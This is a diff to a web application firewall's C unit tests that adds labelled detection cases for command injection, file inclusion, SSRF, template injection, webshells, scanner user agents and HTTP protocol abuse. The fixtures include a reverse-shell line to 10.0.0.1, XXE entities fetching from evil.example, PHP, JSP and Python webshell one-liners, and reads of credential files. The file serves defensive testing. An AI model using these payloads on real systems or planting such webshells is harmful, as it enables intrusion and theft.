@@ -32,7 +32,14 @@ static const struct dcase cases[] = {
 	{ "cmdi", 1, "x | type C:\\Windows\\win.ini" },
 	{ "cmdi", 1, "ls -la /" },
 	{ "cmdi", 1, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
+	{ "cmdi", 1, "127.0.0.1&&dir" },
+	{ "cmdi", 1, ";sleep${IFS}5" },
+	{ "cmdi", 1, "example.com;getent passwd" },
 	{ "cmdi", 0, "Tom & Jerry" },
+	{ "cmdi", 0, "rm -rf is dangerous, don't do it" },
+	{ "cmdi", 0, "Great article! I tried `ls -la` and it worked; thanks :)" },
+	{ "cmdi", 0, "C++ vs C# || java && python" },
+	{ "cmdi", 1, "x`cat /etc/passwd`" },
 	{ "cmdi", 0, "dog; cat" },
 	{ "cmdi", 0, "cats; dogs | birds" },
 	{ "cmdi", 0, "data:image/png;base64,iVBORw0KGgo/AAAA" },
@@ -46,6 +53,13 @@ static const struct dcase cases[] = {
 	{ "lfi", 1, "C:/Windows/System32/config/SAM" },
 	{ "lfi", 1, "php://filter/convert.base64-encode/resource=index.php" },
 	{ "lfi", 1, "../../../../../../../../var/www/app.py" },
+	{ "lfi", 1, "file=/proc/self/cmdline" },
+	{ "lfi", 1, "etc/passwd" },
+	{ "lfi", 0, "etc/hosts file explained" },
+	{ "lfi", 0, "/etc/hosts windows location" },
+	{ "lfi", 1, "/var/run/secrets/kubernetes.io/serviceaccount/token" },
+	{ "lfi", 1, "C:\\Windows\\repair\\sam" },
+	{ "lfi", 1, "/WEB-INF/classes/application.properties" },
 	{ "lfi", 0, "../img/logo.png" },
 	{ "lfi", 0, "docs/etc/passwd-policy.md" },
 	{ "lfi", 0, "a long sentence that mentions the environment and .envelope things" },
@@ -64,6 +78,10 @@ static const struct dcase cases[] = {
 	{ "ssrf", 1, "http://100.100.100.200/latest/meta-data/" },
 	{ "ssrf", 0, "https://hooks.slack.com/services/T000/B000/XXX" },
 	{ "ssrf", 0, "https://8.8.8.8/dns-query" },
+	{ "ssrf", 1, "<iframe src=\"http://169.254.169.254/latest/meta-data/\"></iframe>" },
+	{ "ssrf", 1, "https://good.example/r?next=http://127.0.0.1:6379/" },
+	{ "ssrf", 0, "Visit http://192.168.1.1 to configure your router" },
+	{ "ssrf", 0, "http://localhost:8080 is my dev server" },
 	{ "xxe", 1, "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>" },
 	{ "xxe", 1, "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>" },
 	{ "xxe", 1, "<!DOCTYPE foo PUBLIC \"-//X//EN\" \"http://evil.example/x.dtd\"><foo/>" },
@@ -77,13 +95,18 @@ static const struct dcase cases[] = {
 	{ "ssti", 1, "<%= 7 * 7 %>" },
 	{ "ssti", 1, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>" },
 	{ "ssti", 1, "#set($x='')" },
+	{ "ssti", 1, "<%= File.open('/etc/passwd').read %>" },
 	{ "ssti", 0, "Hello {{ user.name }}" },
+	{ "ssti", 0, "{{ product.name }} costs {{ product.price }}" },
+	{ "ssti", 0, "{{ file.name }} uploaded" },
 	{ "ssti", 0, "{{ .Values.image.tag }}" },
 	{ "ssti", 0, "Total: ${price}" },
 	{ "ssti", 0, "{\"a\": {\"b\": 1}}" },
 	{ "webshell", 1, "<?php system($_GET['c']); ?>" },
 	{ "webshell", 1, "GIF89a<?php @eval($_POST['x']);?>" },
 	{ "webshell", 1, "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>" },
+	{ "webshell", 1, "#!/usr/bin/env python3\nimport os, cgi\nos.system(cgi.FieldStorage().getvalue('c'))\n" },
+	{ "webshell", 0, "#!/usr/bin/env python3\nimport os\nprint(os.getcwd())\n" },
 	{ "webshell", 0, "<?xml version=\"1.0\"?><a/>" },
 	{ "webshell", 0, "<?php echo 'hello'; ?>" },
 	{ "script_filename", 1, "shell.php" },
@@ -92,11 +115,13 @@ static const struct dcase cases[] = {
 	{ "script_filename", 1, "x.asp;.jpg" },
 	{ "script_filename", 1, ".htaccess" },
 	{ "script_filename", 0, "photo.jpg" },
+	{ "script_filename", 0, "logo.svg" },
 	{ "script_filename", 0, "report.2024.pdf" },
 	{ "scanner", 1, "sqlmap/1.7.2#stable (https://sqlmap.org)" },
 	{ "scanner", 1, "Mozilla/5.00 (Nikto/2.1.6)" },
 	{ "scanner", 1, "Mozilla/5.0 (compatible; Nmap Scripting Engine)" },
 	{ "scanner", 0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0" },
+	{ "scanner", 1, "Wapiti/3.0.4 (wapiti-scanner.github.io)" },
 	{ "scanner", 0, "python-requests/2.31.0" },
 	{ "sqli", 1, "1' or '1'='1" },
 	{ "sqli", 0, "select your size" },
@@ -170,6 +195,9 @@ test_protocol(void **state)
 	const struct waf_header bad_name[] = { H("Host", "a"), H("X A", "b") };
 	const struct waf_header range[] = { H("Host", "a"), H("Range", "bytes=0-,1-,2-,3-,4-,5-") };
 	const struct waf_header override[] = { H("Host", "a"), H("X-HTTP-Method-Override", "TRACE") };
+	const struct waf_header h2c[] = { H("Host", "a"), H("Upgrade", "h2c"), H("HTTP2-Settings", "AAMA") };
+	const struct waf_header ws[] = { H("Host", "a"), H("Upgrade", "websocket"), H("Connection", "Upgrade") };
+	const struct waf_header xurl[] = { H("Host", "a"), H("X-Original-URL", "/admin") };
 	const struct waf_header mp[] = { H("Host", "a"),
 		H("Content-Type", "multipart/form-data; boundary=a; boundary=b") };
 
@@ -187,7 +215,8 @@ test_protocol(void **state)
 	assert_true(proto("POST", "/", NULL, te_cl, 3, "abc", 0));
 	assert_true(proto("POST", "/", NULL, te_bad, 2, "abc", 0));
 	assert_true(proto("POST", "/", NULL, cl_list, 2, "abc", 0));
-	assert_true(proto("POST", "/", NULL, post, 2, "abcd", 0));	/* length disagrees */
+	assert_true(proto("POST", "/", NULL, post, 2, "abcd", 0));	/* longer than declared */
+	assert_false(proto("POST", "/", NULL, post, 2, "ab", 0));	/* a proxy's first bytes */
 	assert_true(proto("GET", "/", NULL, te_ok, 2, NULL, 0));
 	assert_true(proto("GET", "/", NULL, no_host, 1, NULL, 0));
 	assert_true(proto("GET", "/", NULL, two_hosts, 2, NULL, 0));
@@ -199,6 +228,9 @@ test_protocol(void **state)
 	assert_true(proto("POST", "/", NULL, mp, 2, NULL, 0));
 	assert_true(proto("POST", "/", NULL, ok, 2, NULL, FIELD_F_BAD_JSON));
 	assert_true(proto("GET", "/", NULL, ok, 2, "body", 0));
+	assert_true(proto("GET", "/", NULL, h2c, 3, NULL, 0));
+	assert_true(proto("GET", "/", NULL, xurl, 2, NULL, 0));
+	assert_false(proto("GET", "/chat", NULL, ws, 3, NULL, 0));
 }
 
 int
